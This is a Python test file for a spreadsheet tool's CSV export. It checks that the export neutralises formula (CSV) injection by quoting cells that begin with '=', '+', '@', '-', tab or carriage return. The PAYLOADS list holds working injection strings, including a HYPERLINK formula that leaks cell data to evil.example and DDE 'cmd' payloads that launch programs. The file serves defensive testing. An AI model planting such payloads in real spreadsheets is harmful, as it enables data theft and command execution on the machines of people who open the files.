"""CSV outputs never carry a formula a spreadsheet would run (issue 13, item 2)."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from tests.batch.test_recompute_command import make_book
from tests.external_tools import require_tool
from tests.hostile import MEILING_RECORDS
from xlbridge.cli import main
from xlbridge.csvio import neutralize, to_csv

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("value", ["-2.5", "-3", "+4", "1e5", "-1E-3", "王建国", "", "a=b",
                                   " =1", 87.5, -2, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralize(value) == value


def test_to_csv_neutralises_header_and_every_row():
    text = to_csv(["=A1", "总分"], [["=1+1", "-2"], [None, "+x"]])
    assert list(csv.reader(io.StringIO(text))) == [["'=A1", "总分"], ["'=1+1", "-2"],
                                                   ["", "'+x"]]


def hostile_records(tmp_path: Path) -> Path:
    """The shipped 梅岭 records with formula payloads as names."""
    rows = list(csv.reader(io.StringIO(MEILING_RECORDS.read_text(encoding="utf-8-sig"))))
    for row, payload in zip(rows[1:], PAYLOADS, strict=False):
        row[0] = payload
    path = tmp_path / "records.csv"
    path.write_text(to_csv_raw(rows), encoding="utf-8-sig")
    return path


def to_csv_raw(rows: list[list[str]]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def test_score_output_neutralises_the_names_it_copies(tmp_path):
    out = tmp_path / "results.csv"
    r = CliRunner().invoke(main, ["score", "--scheme", "meiling-street-quarterly", "--input",
                                  str(hostile_records(tmp_path)), "--output", str(out)])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:len(PAYLOADS) + 1]]
    assert names == ["'" + p for p in PAYLOADS]
    header = rows[0]
    deductions = [row[header.index("奖惩附加分(分)")] for row in rows[1:]]
    assert "-2" in deductions  # a negative number stays a number
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "@", "\t", "\r"))
                or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())]


def test_libreoffice_opens_the_output_without_a_formula(tmp_path):
    soffice = require_tool("soffice", "libreoffice")
    out = tmp_path / "results.csv"
    r = CliRunner().invoke(main, ["score", "--scheme", "meiling-street-quarterly", "--input",
                                  str(hostile_records(tmp_path)), "--output", str(out)])
    assert r.exit_code == 0, r.output
    control = tmp_path / "control.csv"  # the same payloads unneutralised: they do run
    control.write_text(to_csv_raw([["x"], *[[p] for p in PAYLOADS]]), encoding="utf-8-sig")
    # CSV import with "evaluate formulas" on (token 13), as a clerk's double-click does
    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                    "--headless", "--norestore",
                    "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path / "x"), str(out),
                    str(control)], check=True, capture_output=True, timeout=180)
    formulas = [c.coordinate for row in openpyxl.load_workbook(tmp_path / "x" / "results.xlsx")
                .active.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    control_ws = openpyxl.load_workbook(tmp_path / "x" / "control.xlsx").active
    assert control_ws["A2"].data_type == "f"  # the check can fail: unquoted, it is a formula


def test_recompute_report_csv_neutralises_its_cells(tmp_path, monkeypatch):
    make_book(tmp_path / "=HYPERLINK(1).xlsx")
    monkeypatch.chdir(tmp_path)
    r = CliRunner().invoke(main, ["recompute", "=HYPERLINK(1).xlsx", "--report", "r.csv"])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8-sig"))))
    assert rows[1][0] == "'=HYPERLINK(1).xlsx"
